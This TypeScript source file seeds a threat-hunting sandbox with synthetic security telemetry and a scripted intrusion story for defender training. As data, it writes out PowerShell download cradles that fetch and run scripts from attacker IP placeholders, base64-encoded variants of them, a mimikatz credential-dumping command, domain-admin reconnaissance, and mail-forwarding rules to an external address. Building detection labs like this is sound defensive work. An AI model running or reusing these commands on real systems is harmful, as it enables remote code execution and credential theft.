// Seed hunting tables: a month of everyday activity plus one attack story that the seed incidents describe.
//   ~30 h ago  a phishing mail from `phishingSender` reaches amy.wong and lena.fischer;
//   ~20 h ago  on ws-fin-042 the attachment runs, PowerShell downloads a stage (IEX ... DownloadString), runs an
//              -EncodedCommand payload and drops mimikatz;
//   ~18 h ago  on ws-hr-007 PowerShell runs with -enc and the same kind of download cradle;
//   36-6 h ago amy.wong and raj.patel sign in from the malicious IPs; srv-sql-01 sees failed RDP logons;
//   ~9 h ago   amy.wong's mailbox gets New-InboxRule / Set-InboxRule rules forwarding to an external fabrikam address;
//   ~30 min ago a scheduled task on ws-fin-042 runs the encoded beacon again (no new alert: the scheduled
//              suspicious-powershell hunt is what finds it, inside its first window of [now - 65 min, now - 5 min),
//              so a fresh `npm start` shows that workflow tagging incident 3309 at once).
// Rows are deterministic for a given `now` (seeded PRNG, one stream per table).
import { files, maliciousIps, phishingSender, users } from '../seed/entities';
import { datetimeFromParts } from './datetime';
import {
  BENIGN_GENERATORS,
  CLOUD_APPS,
  cloudRow,
  deviceInfoRow,
  digests,
  emailRow,
  fileRow,
  HOUR_MS,
  identityRow,
  IMAGES,
  logonRow,
  makeAlertEvidenceRow,
  makeAlertInfoRow,
  makeUrlRow,
  networkRow,
  processRow,
  PROFILES,
  profileOf,
  requireUser,
  ReportIds,
  SEED_SPAN_MS,
  shortName,
  sidOf,
  type GenContext,
  type Image,
} from './seedBenign';
import { genericRowCount, genericRows } from './seedGeneric';
import { linkSeedTables } from './seedLinks';
import { SeedRandom } from './seedRandom';
import { techniqueRows } from './seedTechniques';
import { schemaOf, seedTableNames } from './seedSchemas';
import type { KqlTable } from './types';
import type { Row } from './values';

/** Every table of the Advanced Hunting schema: the sandbox seeds them all. */
export const SEED_TABLE_NAMES: readonly string[] = seedTableNames();

/** The alerts behind the seed incidents, in AlertInfo/AlertEvidence and (by the server) in the incidents API. */
export const SEED_ALERT_IDS = [
  'da6371000000000000_1001',
  'da6371000000000000_1002',
  'da6371000000000000_1003',
  'da6371000000000000_1004',
  'da6371000000000000_1005',
] as const;

export interface SeedAlert {
  alertId: (typeof SEED_ALERT_IDS)[number];
  title: string;
  category: string;
  severity: 'High' | 'Medium' | 'Low' | 'Informational';
  serviceSource: string;
  detectionSource: string;
  attackTechniques: readonly string[];
  /** The alert's Timestamp is `now - hoursAgo`. */
  hoursAgo: number;
  deviceNames: readonly string[];
  accountUpns: readonly string[];
}

const amy = requireUser('amy.wong');
const raj = requireUser('raj.patel');
const lena = requireUser('lena.fischer');
const [ipFin, ipHr, ipRdp] = maliciousIps;
const [invoiceFile, mimikatzFile] = files;
const FORWARD_TO = 'amy.archive@fabrikam.com';
const PHISH_MESSAGE_ID = '4f8e2c1a-7b3d-4e9f-a1c2-d3e4f5a6b7c8';
const PHISH_SUBJECT = 'Overdue invoice 2026-0113 - payment required today';
const PHISH_URL = 'https://fabrikam-payments.example/invoice/2026-0113';

export const SEED_ALERTS: readonly SeedAlert[] = [
  {
    alertId: SEED_ALERT_IDS[0],
    title: 'Suspicious PowerShell download cradle',
    category: 'Execution',
    severity: 'High',
    serviceSource: 'Microsoft Defender for Endpoint',
    detectionSource: 'EDR',
    attackTechniques: ['PowerShell (T1059.001)', 'Ingress Tool Transfer (T1105)'],
    hoursAgo: 20,
    deviceNames: [profileOf('ws-fin-042').device.deviceName],
    accountUpns: [amy.upn],
  },
  {
    alertId: SEED_ALERT_IDS[1],
    title: 'Suspicious PowerShell encoded command',
    category: 'Execution',
    severity: 'High',
    serviceSource: 'Microsoft Defender for Endpoint',
    detectionSource: 'EDR',
    attackTechniques: ['PowerShell (T1059.001)', 'Obfuscated Files or Information (T1027)'],
    hoursAgo: 18,
    deviceNames: [profileOf('ws-hr-007').device.deviceName],
    accountUpns: [lena.upn],
  },
  {
    alertId: SEED_ALERT_IDS[2],
    title: 'Email messages containing malicious URL removed after delivery',
    category: 'InitialAccess',
    severity: 'Medium',
    serviceSource: 'Microsoft Defender for Office 365',
    detectionSource: 'Microsoft Defender for Office 365',
    attackTechniques: ['Spearphishing Link (T1566.002)'],
    hoursAgo: 29.5,
    deviceNames: [],
    accountUpns: [amy.upn, lena.upn],
  },
  {
    alertId: SEED_ALERT_IDS[3],
    title: 'Suspicious inbox forwarding rule',
    category: 'Exfiltration',
    severity: 'Medium',
    serviceSource: 'Microsoft Defender for Cloud Apps',
    detectionSource: 'Microsoft Defender for Cloud Apps',
    attackTechniques: ['Email Forwarding Rule (T1114.003)'],
    hoursAgo: 9,
    deviceNames: [],
    accountUpns: [amy.upn],
  },
  {
    alertId: SEED_ALERT_IDS[4],
    title: 'Activity from a malicious IP address',
    category: 'InitialAccess',
    severity: 'Medium',
    serviceSource: 'Microsoft Defender for Cloud Apps',
    detectionSource: 'Microsoft Defender for Cloud Apps',
    attackTechniques: ['Valid Accounts (T1078)'],
    hoursAgo: 6,
    deviceNames: [],
    accountUpns: [raj.upn, amy.upn],
  },
];

/** PowerShell's -EncodedCommand format: base64 of UTF-16LE text. */
function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const SEED_COMMAND_LINES = {
  finCradle: `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ipFin}/stage2.ps1')"`,
  finEncoded: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://${ipFin}/beacon.ps1')`)}`,
  hrEncoded: `powershell.exe -nop -w hidden -enc ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://${ipHr}/update.ps1')`)}`,
  hrCradle: `"powershell.exe" -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://${ipHr}/update.ps1')"`,
  mimikatz: `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
} as const;

/** When the beacon runs again on ws-fin-042: inside the first window of a scheduled hunt started up to ~25 minutes
 * after the sandbox (initial lookback 1 h, ingestion delay 5 min). */
const RECENT_BEACON_HOURS_AGO = 0.5;
const TASK_SCHEDULER = 'svchost.exe -k netsvcs -p -s Schedule';

/** `hoursAgo` before now, plus up to a minute of jitter (story steps are at least three minutes apart). */
function at(nowMs: number, hoursAgo: number, rng: SeedRandom): string {
  return datetimeFromParts(Math.floor(nowMs - hoursAgo * HOUR_MS) + rng.int(0, 59_999), rng.int(0, 9999)) as string;
}

function imageOf(file: { fileName: string }, folder: string, description: string): Image {
  return { fileName: file.fileName, folder, company: '', description, size: 1_245_184 };
}

function storyProcesses(g: GenContext): Row[] {
  const fin = profileOf('ws-fin-042');
  const hr = profileOf('ws-hr-007');
  const t = (h: number) => at(g.nowMs, h, g.rng);
  const invoice = imageOf(invoiceFile, `C:\\Users\\${amy.accountName}\\Downloads`, 'Invoice viewer');
  const mimikatz = imageOf(mimikatzFile, 'C:\\Users\\Public', 'mimikatz for Windows');
  const real = (f: { sha1: string; sha256: string }) => ({ SHA1: f.sha1, SHA256: f.sha256, MD5: '' });
  return [
    processRow(g, fin, t(20.1), invoice, IMAGES.outlook, `"${invoiceFile.fileName}"`, {
      values: { ...real(invoiceFile), ProcessVersionInfoCompanyName: '', InitiatingProcessSignerType: 'OsVendor' },
    }),
    processRow(g, fin, t(20), IMAGES.powershell, invoice, SEED_COMMAND_LINES.finCradle, {
      values: {
        InitiatingProcessSHA1: invoiceFile.sha1,
        InitiatingProcessSHA256: invoiceFile.sha256,
        InitiatingProcessSignatureStatus: 'Unsigned',
        InitiatingProcessSignerType: 'None',
      },
    }),
    processRow(g, fin, t(19.95), IMAGES.powershell, IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, {
      values: { InitiatingProcessCommandLine: SEED_COMMAND_LINES.finCradle },
    }),
    processRow(g, fin, t(19.5), mimikatz, IMAGES.powershell, SEED_COMMAND_LINES.mimikatz, {
      values: {
        ...real(mimikatzFile),
        ProcessIntegrityLevel: 'High',
        ProcessTokenElevation: 'TokenElevationTypeFull',
        InitiatingProcessCommandLine: SEED_COMMAND_LINES.finEncoded,
      },
    }),
    processRow(g, hr, t(18.2), IMAGES.msedge, IMAGES.outlook, `"msedge.exe" --single-argument ${PHISH_URL}`),
    processRow(g, hr, t(18), IMAGES.powershell, IMAGES.explorer, SEED_COMMAND_LINES.hrEncoded),
    processRow(g, hr, t(17.9), IMAGES.powershell, IMAGES.powershell, SEED_COMMAND_LINES.hrCradle, {
      values: { InitiatingProcessCommandLine: SEED_COMMAND_LINES.hrEncoded },
    }),
    processRow(
      g,
      hr,
      t(17.8),
      IMAGES.cmd,
      IMAGES.powershell,
      'cmd.exe /c whoami /all & net group "Domain Admins" /domain',
    ),
    // Appended last so the rows above keep their random draws.
    processRow(g, fin, t(RECENT_BEACON_HOURS_AGO), IMAGES.powershell, IMAGES.svchost, SEED_COMMAND_LINES.finEncoded, {
      values: { InitiatingProcessCommandLine: TASK_SCHEDULER },
    }),
  ];
}

function storyNetwork(g: GenContext): Row[] {
  const fin = profileOf('ws-fin-042');
  const hr = profileOf('ws-hr-007');
  const t = (h: number) => at(g.nowMs, h, g.rng);
  const remote = (ip: string, port: number) => ({ ip, port, url: '', type: 'Public' });
  return [
    networkRow(g, fin, t(20), IMAGES.powershell, SEED_COMMAND_LINES.finCradle, remote(ipFin, 80), {
      RemoteUrl: `http://${ipFin}/stage2.ps1`,
      Protocol: 'Tcp',
    }),
    networkRow(g, fin, t(19.95), IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, remote(ipFin, 80), {
      RemoteUrl: `http://${ipFin}/beacon.ps1`,
    }),
    networkRow(g, fin, t(19.4), IMAGES.powershell, SEED_COMMAND_LINES.finEncoded, remote(ipFin, 443)),
    networkRow(g, hr, t(18), IMAGES.powershell, SEED_COMMAND_LINES.hrEncoded, remote(ipHr, 80), {
      RemoteUrl: `http://${ipHr}/update.ps1`,
    }),
    networkRow(g, hr, t(17.9), IMAGES.powershell, SEED_COMMAND_LINES.hrCradle, remote(ipHr, 443), {
      RemoteUrl: `https://${ipHr}/update.ps1`,
    }),
    networkRow(g, hr, t(18.2), IMAGES.msedge, `"msedge.exe" --single-argument ${PHISH_URL}`, {
      ip: ipFin,
      port: 443,
      url: 'fabrikam-payments.example',
      type: 'Public',
    }),
    networkRow(
      g,
      fin,
      t(RECENT_BEACON_HOURS_AGO - 0.05),
      IMAGES.powershell,
      SEED_COMMAND_LINES.finEncoded,
      remote(ipFin, 80),
      {
        RemoteUrl: `http://${ipFin}/beacon.ps1`,
      },
    ),
  ];
}

function storyFiles(g: GenContext): Row[] {
  const fin = profileOf('ws-fin-042');
  const t = (h: number) => at(g.nowMs, h, g.rng);
  return [
    fileRow(g, fin, t(20.2), {
      FileName: invoiceFile.fileName,
      FolderPath: `C:\\Users\\${amy.accountName}\\Downloads\\${invoiceFile.fileName}`,
      SHA1: invoiceFile.sha1,
      SHA256: invoiceFile.sha256,
      FileSize: 1_245_184,
      FileOriginUrl: PHISH_URL,
      FileOriginIP: ipFin,
      InitiatingProcessFileName: IMAGES.outlook.fileName,
      InitiatingProcessFolderPath: `${IMAGES.outlook.folder}\\outlook.exe`,
      InitiatingProcessCommandLine: '"OUTLOOK.EXE"',
    }),
    fileRow(g, fin, t(19.55), {
      FileName: mimikatzFile.fileName,
      FolderPath: `C:\\Users\\Public\\${mimikatzFile.fileName}`,
      SHA1: mimikatzFile.sha1,
      SHA256: mimikatzFile.sha256,
      FileSize: 1_355_680,
      FileOriginUrl: `http://${ipFin}/m.exe`,
      FileOriginIP: ipFin,
      InitiatingProcessFileName: IMAGES.powershell.fileName,
      InitiatingProcessFolderPath: `${IMAGES.powershell.folder}\\powershell.exe`,
      InitiatingProcessCommandLine: SEED_COMMAND_LINES.finEncoded,
    }),
  ];
}

function storyLogons(g: GenContext): Row[] {
  const sql = profileOf('srv-sql-01');
  const rows: Row[] = [];
  for (let i = 0; i < 6; i++) {
    rows.push(
      logonRow(g, sql, at(g.nowMs, 6 - i * 0.1, g.rng), {
        ActionType: 'LogonFailed',
        LogonType: 'RemoteInteractive',
        AccountName: 'administrator',
        AccountSid: '',
        FailureReason: 'InvalidUserNameOrPassword',
        RemoteIP: ipRdp,
        RemoteIPType: 'Public',
        RemotePort: g.rng.int(49152, 65535),
        Protocol: 'Negotiate',
      }),
    );
  }
  return rows;
}

function storyIdentity(g: GenContext): Row[] {
  const t = (h: number) => at(g.nowMs, h, g.rng);
  const hostile = { Location: 'NL', Isp: 'Example Hosting Ltd', DeviceName: '', DeviceType: '', OSPlatform: '' };
  return [
    identityRow(g, amy, t(36), {
      ...hostile,
      IPAddress: ipFin,
      Application: 'Office 365 Exchange Online',
      AdditionalFields: { Count: 1, ClientApp: 'Browser', UserAgent: 'python-requests/2.31' },
    }),
    identityRow(g, amy, t(10), {
      ...hostile,
      IPAddress: ipFin,
      Application: 'Office 365 Exchange Online',
      AdditionalFields: { Count: 1, ClientApp: 'Browser' },
    }),
    identityRow(g, raj, t(30.2), {
      ...hostile,
      IPAddress: ipHr,
      ActionType: 'LogonFailed',
      FailureReason: 'InvalidPassword',
      Location: 'RU',
    }),
    identityRow(g, raj, t(30), { ...hostile, IPAddress: ipHr, Location: 'RU' }),
    identityRow(g, raj, t(6), { ...hostile, IPAddress: ipRdp, Application: 'Microsoft Teams' }),
  ];
}

function storyCloud(g: GenContext): Row[] {
  const t = (h: number) => at(g.nowMs, h, g.rng);
  const hostile = {
    IPAddress: ipFin,
    CountryCode: 'NL',
    City: 'Amsterdam',
    Isp: 'Example Hosting Ltd',
    IPCategory: 'Hosting',
    UserAgent: 'python-requests/2.31',
    UncommonForUser: ['ISP', 'CountryCode', 'ActionType'],
  };
  const rule = (action: 'New-InboxRule' | 'Set-InboxRule', parameters: { Name: string; Value: string }[]) => ({
    ...hostile,
    ActionType: action,
    Application: CLOUD_APPS.exchange.name,
    ApplicationId: CLOUD_APPS.exchange.id,
    ActivityType: 'Edit',
    ObjectName: 'Invoices',
    ObjectType: 'Inbox rule',
    ActivityObjects: [
      { Type: 'Mailbox', Name: amy.upn, Role: 'Target object' },
      { Type: 'Inbox rule', Name: 'Invoices' },
      ...parameters.map((p) => ({ Type: 'Structured object', Name: p.Name, Value: p.Value })),
    ],
    RawEventData: {
      Operation: action,
      Workload: 'Exchange',
      ResultStatus: 'True',
      UserId: amy.upn,
      ClientIP: ipFin,
      Parameters: parameters,
    },
  });
  return [
    cloudRow(g, amy, t(9.2), {
      ...hostile,
      ActionType: 'MailItemsAccessed',
      RawEventData: { Operation: 'MailItemsAccessed', Workload: 'Exchange', MailAccessType: 'Sync' },
    }),
    cloudRow(
      g,
      amy,
      t(9),
      rule('New-InboxRule', [
        { Name: 'Name', Value: 'Invoices' },
        { Name: 'SubjectContainsWords', Value: 'invoice;payment;wire' },
        { Name: 'ForwardTo', Value: FORWARD_TO },
        { Name: 'MarkAsRead', Value: 'True' },
        { Name: 'StopProcessingRules', Value: 'True' },
      ]),
    ),
    cloudRow(
      g,
      amy,
      t(8.5),
      rule('Set-InboxRule', [
        { Name: 'Identity', Value: 'Invoices' },
        { Name: 'ForwardAsAttachmentTo', Value: FORWARD_TO },
        { Name: 'DeleteMessage', Value: 'True' },
      ]),
    ),
  ];
}

function storyEmail(g: GenContext): Row[] {
  const t = at(g.nowMs, 30, g.rng);
  return [amy, lena].map((to) =>
    emailRow(g, t, {
      NetworkMessageId: PHISH_MESSAGE_ID,
      InternetMessageId: '<20261113.0113.invoice@fabrikam-payments.example>',
      SenderMailFromAddress: phishingSender,
      SenderFromAddress: phishingSender,
      SenderDisplayName: 'Fabrikam Payments',
      SenderMailFromDomain: phishingSender.split('@')[1],
      SenderFromDomain: phishingSender.split('@')[1],
      SenderIPv4: ipFin,
      RecipientEmailAddress: to.upn,
      RecipientObjectId: to.objectId,
      Subject: PHISH_SUBJECT,
      EmailClusterId: 3_141_592_653,
      ThreatTypes: 'Phish',
      ThreatNames: '',
      DetectionMethods: '{"Phish":["URL detonation reputation"]}',
      ConfidenceLevel: '{"Phish":"High"}',
      AuthenticationDetails: '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}',
      AttachmentCount: 1,
      UrlCount: 1,
      LatestDeliveryLocation: 'Quarantine',
      LatestDeliveryAction: 'Moved to quarantine',
    }),
  );
}

function alertTime(g: GenContext, alert: SeedAlert): string {
  return at(g.nowMs, alert.hoursAgo, g.rng);
}

function storyAlertInfo(g: GenContext): Row[] {
  return SEED_ALERTS.map((a) =>
    makeAlertInfoRow({
      Timestamp: alertTime(g, a),
      AlertId: a.alertId,
      Title: a.title,
      Category: a.category,
      Severity: a.severity,
      ServiceSource: a.serviceSource,
      DetectionSource: a.detectionSource,
      AttackTechniques: JSON.stringify(a.attackTechniques),
    }),
  );
}

function storyAlertEvidence(g: GenContext): Row[] {
  const rows: Row[] = [];
  const fin = profileOf('ws-fin-042');
  const hr = profileOf('ws-hr-007');
  for (const a of SEED_ALERTS) {
    const t = alertTime(g, a);
    const base = {
      Timestamp: t,
      AlertId: a.alertId,
      Title: a.title,
      Categories: JSON.stringify([a.category]),
      AttackTechniques: JSON.stringify(a.attackTechniques),
      ServiceSource: a.serviceSource,
      DetectionSource: a.detectionSource,
      Severity: a.severity,
      ApplicationId: null,
      AdditionalFields: '{}',
    };
    const add = (values: Row) => rows.push(makeAlertEvidenceRow({ ...base, ...values }));
    const machine = (p: typeof fin) =>
      add({
        EntityType: 'Machine',
        EvidenceRole: 'Impacted',
        DeviceId: p.device.deviceId,
        DeviceName: p.device.deviceName,
        LocalIP: p.localIp,
        AdditionalFields: JSON.stringify({ HostName: shortName(p) }),
      });
    const user = (u: (typeof users)[number], role = 'Impacted') => {
      const p = PROFILES.find((x) => x.user.upn === u.upn);
      add({
        EntityType: 'User',
        EvidenceRole: role,
        AccountName: u.accountName,
        AccountDomain: 'contoso',
        AccountSid: p ? sidOf(p) : '',
        AccountObjectId: u.objectId,
        AccountUpn: u.upn,
      });
    };
    const ip = (address: string) =>
      add({ EntityType: 'Ip', EvidenceRole: 'Related', EvidenceDirection: 'Destination', RemoteIP: address });
    switch (a.alertId) {
      case SEED_ALERT_IDS[0]:
        machine(fin);
        user(amy);
        add({
          EntityType: 'Process',
          EvidenceRole: 'Related',
          DeviceId: fin.device.deviceId,
          DeviceName: fin.device.deviceName,
          FileName: 'powershell.exe',
          FolderPath: `${IMAGES.powershell.folder}\\powershell.exe`,
          ...digests(IMAGES.powershell),
          ProcessCommandLine: SEED_COMMAND_LINES.finCradle,
        });
        add({
          EntityType: 'File',
          EvidenceRole: 'Related',
          DeviceId: fin.device.deviceId,
          DeviceName: fin.device.deviceName,
          FileName: invoiceFile.fileName,
          FolderPath: `C:\\Users\\${amy.accountName}\\Downloads`,
          SHA1: invoiceFile.sha1,
          SHA256: invoiceFile.sha256,
          FileSize: 1_245_184,
        });
        add({
          EntityType: 'File',
          EvidenceRole: 'Related',
          DeviceId: fin.device.deviceId,
          DeviceName: fin.device.deviceName,
          FileName: mimikatzFile.fileName,
          FolderPath: 'C:\\Users\\Public',
          SHA1: mimikatzFile.sha1,
          SHA256: mimikatzFile.sha256,
          FileSize: 1_355_680,
          ThreatFamily: 'Mimikatz',
        });
        ip(ipFin);
        add({ EntityType: 'Url', EvidenceRole: 'Related', RemoteUrl: `http://${ipFin}/stage2.ps1` });
        break;
      case SEED_ALERT_IDS[1]:
        machine(hr);
        user(lena);
        add({
          EntityType: 'Process',
          EvidenceRole: 'Related',
          DeviceId: hr.device.deviceId,
          DeviceName: hr.device.deviceName,
          FileName: 'powershell.exe',
          FolderPath: `${IMAGES.powershell.folder}\\powershell.exe`,
          ...digests(IMAGES.powershell),
          ProcessCommandLine: SEED_COMMAND_LINES.hrEncoded,
        });
        ip(ipHr);
        break;
      case SEED_ALERT_IDS[2]:
        add({
          EntityType: 'MailMessage',
          EvidenceRole: 'Related',
          NetworkMessageId: PHISH_MESSAGE_ID,
          EmailSubject: PHISH_SUBJECT,
          AdditionalFields: JSON.stringify({ Sender: phishingSender, Recipients: [amy.upn, lena.upn] }),
        });
        user(amy);
        user(lena);
        add({ EntityType: 'Url', EvidenceRole: 'Related', RemoteUrl: PHISH_URL });
        break;
      case SEED_ALERT_IDS[3]:
        user(amy);
        add({
          EntityType: 'CloudApplication',
          EvidenceRole: 'Related',
          Application: CLOUD_APPS.exchange.name,
          ApplicationId: CLOUD_APPS.exchange.id,
        });
        ip(ipFin);
        add({
          EntityType: 'Mailbox',
          EvidenceRole: 'Related',
          AccountUpn: amy.upn,
          AdditionalFields: JSON.stringify({ ForwardTo: FORWARD_TO }),
        });
        break;
      default:
        user(raj);
        user(amy);
        ip(ipHr);
        ip(ipRdp);
        ip(ipFin);
        break;
    }
  }
  return rows;
}

function deviceSnapshots(g: GenContext): Row[] {
  // DeviceInfo is a periodic snapshot; one per device every 12 hours (the "latest state" pattern needs several).
  const rows: Row[] = [];
  for (let ago = SEED_SPAN_MS - HOUR_MS; ago > 0; ago -= 12 * HOUR_MS) {
    for (const p of PROFILES) rows.push(deviceInfoRow(g, p, g.rng.timestamp(g.nowMs, ago, Math.max(0, ago - HOUR_MS))));
  }
  return rows;
}

const STORY: Record<string, { benign: number; story: (g: GenContext) => Row[] }> = {
  DeviceProcessEvents: { benign: 320, story: storyProcesses },
  DeviceNetworkEvents: { benign: 220, story: storyNetwork },
  DeviceFileEvents: { benign: 90, story: storyFiles },
  DeviceLogonEvents: { benign: 120, story: storyLogons },
  DeviceInfo: { benign: 0, story: deviceSnapshots },
  EmailEvents: { benign: 110, story: storyEmail },
  EmailUrlInfo: {
    benign: 60,
    story: (g) => [
      makeUrlRow({
        Timestamp: at(g.nowMs, 30, g.rng),
        NetworkMessageId: PHISH_MESSAGE_ID,
        Url: PHISH_URL,
        UrlDomain: 'fabrikam-payments.example',
        UrlLocation: 'Body',
        ReportId: g.rng.guid(),
      }),
    ],
  },
  IdentityLogonEvents: { benign: 140, story: storyIdentity },
  CloudAppEvents: { benign: 110, story: storyCloud },
  AlertInfo: { benign: 12, story: storyAlertInfo },
  AlertEvidence: { benign: 12, story: storyAlertEvidence },
};

function byTimestamp(a: Row, b: Row): number {
  const x = a['Timestamp'] as string;
  const y = b['Timestamp'] as string;
  return x < y ? -1 : x > y ? 1 : 0;
}

/** Builds every seed table for a given `now` (Timestamps within the 30 days before it). */
export function createSeedTables(now: Date): Map<string, KqlTable> {
  const nowMs = now.getTime();
  if (!Number.isFinite(nowMs)) throw new TypeError('createSeedTables: now is not a valid date');
  const reportIds = new ReportIds();
  const tables = new Map<string, KqlTable>();
  for (const name of SEED_TABLE_NAMES) {
    const spec = STORY[name];
    const generate = BENIGN_GENERATORS[name];
    const g: GenContext = { rng: new SeedRandom(`seed:${name}`), nowMs, reportIds };
    const rows: Row[] = [];
    if (spec && generate) {
      for (let i = 0; i < spec.benign; i++) rows.push(generate(g));
      rows.push(...spec.story(g));
    } else {
      rows.push(...genericRows(name, g, genericRowCount(name)));
    }
    // The common attack techniques, from their own random stream so the rows above keep their values.
    rows.push(...techniqueRows(name, { rng: new SeedRandom(`techniques:${name}`), nowMs, reportIds }));
    if (schemaOf(name).some((c) => c.name === 'Timestamp')) rows.sort(byTimestamp);
    tables.set(name, { name, columns: schemaOf(name).map((c) => ({ ...c })), rows });
  }
  linkSeedTables(tables);
  return tables;
}
